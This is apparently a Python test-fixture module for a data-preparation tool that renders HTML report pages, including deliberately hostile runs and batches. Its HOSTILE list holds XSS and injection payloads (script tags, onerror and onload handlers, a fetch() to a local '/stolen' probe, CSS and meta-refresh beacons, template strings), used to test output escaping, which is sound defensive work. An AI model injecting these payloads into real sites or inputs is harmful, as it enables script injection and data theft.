"""Pages of real runs and tables, ordinary ones and hostile ones."""

from __future__ import annotations

import random
from contextlib import chdir
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pyarrow as pa

import blobprep
from blobprep.batches.records import ItemError
from blobprep.batches.report.view import gather_batch
from blobprep.report.batch_page import render_batch
from tests.batches.report import building

__all__ = [
    "HOSTILE",
    "PROBE",
    "batch",
    "comparison",
    "flowers",
    "hostile_batch",
    "hostile_run",
    "run_index",
    "run_page",
    "wide_table",
]

PROBE = "http://127.0.0.1:8765/stolen"
"""Where hostile data would send something, if it could."""

HOSTILE = [
    "<script>alert('script')</script>",
    f"<img src='{PROBE}' onerror=\"alert('image')\">",
    f'"><svg onload="fetch(\'{PROBE}\')">',
    "' onmouseover='alert(1)' autofocus onfocus='alert(2)' x='",
    "javascript:alert('link')",
    "</script><script>window.stolen = 1</script>",
    f"</style><style>* {{ background: url({PROBE}) }}</style>",
    "</title></textarea></noscript><script>alert('end')</script>",
    "{{ 7 * 7 }} ${alert(1)} `${alert(2)}`",
    "\u202eevil\u2066 \x1b[31m \x00 \x7f",
    "<!-- <script>",
    f"<meta http-equiv=refresh content='0; url={PROBE}'>",
]
_PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

_SCRIPT = """
import sys
import matplotlib.pyplot as plt

def azureml_main(dataframe1=None, dataframe2=None):
    print("rows", len(dataframe1))
    print("careful", file=sys.stderr)
    dataframe1["ratio"] = dataframe1["petal length"] / dataframe1["petal width"]
    for name in ("ratio", "petal width"):
        dataframe1.hist(name)
        plt.savefig(name + ".png")
        plt.close()
    return dataframe1,
"""
_FAILING = """
def azureml_main(dataframe1=None, dataframe2=None):
    print("before")
    return dataframe1["no such column"]
"""


def flowers() -> pd.DataFrame:
    """Return iris with what pages also have to show: missing values, times, long texts, other scripts than Latin."""
    from sklearn.datasets import load_iris

    loaded = load_iris(as_frame=True)
    frame = loaded.frame.rename(columns=lambda name: name.removesuffix(" (cm)"))
    frame["species"] = frame.pop("target").map(dict(enumerate(loaded.target_names)))
    frame.insert(0, "id", [f"F{number:03}" for number in range(len(frame))])
    frame.loc[::10, "sepal width"] = None
    frame["seen"] = pd.date_range("2024-01-01", periods=len(frame), freq="D")
    frame["note"] = ["Schöne Blüte", "زهرة جميلة", "漂亮的花", "a long note, " * 40, None] * 30
    return frame


def run_page(folder: Path, *, fails: bool = False) -> bytes:
    """Return the page that a run leaves."""
    flowers().to_csv(folder / "flowers.csv", index=False)
    (folder / "prep.py").write_text(_FAILING if fails else _SCRIPT, encoding="utf-8")
    with chdir(folder):
        run = blobprep.run("prep.py", "flowers.csv", output="out/one/", overwrite=True)
    assert run.status == ("failed" if fails else "succeeded")
    return (folder / "out/one/report.html").read_bytes()


def wide_table(columns: int) -> bytes:
    """Return the page of a table with many columns."""
    numbers = random.Random(1)
    table = pa.table({f"column {number}": [numbers.gauss(0, 1) for _ in range(50)] for number in range(columns)})
    return blobprep.show(table).html


def comparison() -> bytes:
    """Return the page of two tables that differ in rows, columns, types and values."""
    before = flowers()
    after = before.drop(index=[3, 4]).drop(columns="seen")
    after["petal width"] = after["petal width"].astype(str)
    after.loc[after["species"] == "setosa", "sepal length"] += 0.5
    after["checked"] = True
    return blobprep.show(before, after, key=["id"]).html


def run_index(folder: Path) -> bytes:
    """Return the page of several runs, two of which failed; they are below `out/`, beside it."""
    run_page(folder)
    with chdir(folder):
        for number in range(4):
            (folder / "prep.py").write_text(_FAILING if number % 2 else _SCRIPT, encoding="utf-8")
            blobprep.run("prep.py", "flowers.csv", output=f"out/run{number}/")
        page = blobprep.show("out/")
        page.save("index.html")
    return (folder / "index.html").read_bytes()


def batch(amount: int) -> bytes:
    """Return the page of a batch of so many items, a few of which failed."""
    return render_batch(gather_batch(building.HEAD, building.many(amount, failing=0.04)))


def hostile_batch() -> bytes:
    """Return the page of a batch whose keys, errors, workers and options are written to attack it."""
    records = [
        replace(
            building.record(str(number), "failed", error=ItemError(text, text, text, text), worker=text),
            key=text,
            output=f"az://contoso@prepared/{text}/",
        )
        for number, text in enumerate(HOSTILE)
    ]
    head = replace(building.HEAD, engine=HOSTILE[0], script=HOSTILE[1], options={text: text for text in HOSTILE})
    return render_batch(gather_batch(head, records))


def hostile_run(folder: Path, *, fails: bool = False) -> bytes:
    """Return the page of a run whose table, log, figures, parameters and error are written to attack it."""
    frame = pd.DataFrame({label: HOSTILE[place:] + HOSTILE[:place] for place, label in enumerate(HOSTILE)})
    frame["number"] = range(len(frame))
    frame.to_parquet(folder / "hostile.parquet")
    script = f"""
import base64, sys
HOSTILE = {HOSTILE!r}
PICTURE = base64.b64decode({_PICTURE!r})

def azureml_main(dataframe1=None, dataframe2=None):
    for text in HOSTILE:
        print(text)
        print(text, file=sys.stderr)
    for number, text in enumerate(HOSTILE):
        try:
            with open(str(number) + text.replace("/", "_").replace("\\0", "") + ".png", "wb") as file:
                file.write(PICTURE)
        except OSError:
            pass
    if {fails}:
        raise ValueError("\\n".join(HOSTILE))
    return dataframe1,
"""
    (folder / "hostile.py").write_text(script, encoding="utf-8", errors="surrogatepass")
    parameters = {f"p{number}": text for number, text in enumerate(HOSTILE)}
    with chdir(folder):
        blobprep.run("hostile.py", "hostile.parquet", output="out/h/", parameters=parameters, overwrite=True)
    return (folder / "out/h/report.html").read_bytes()
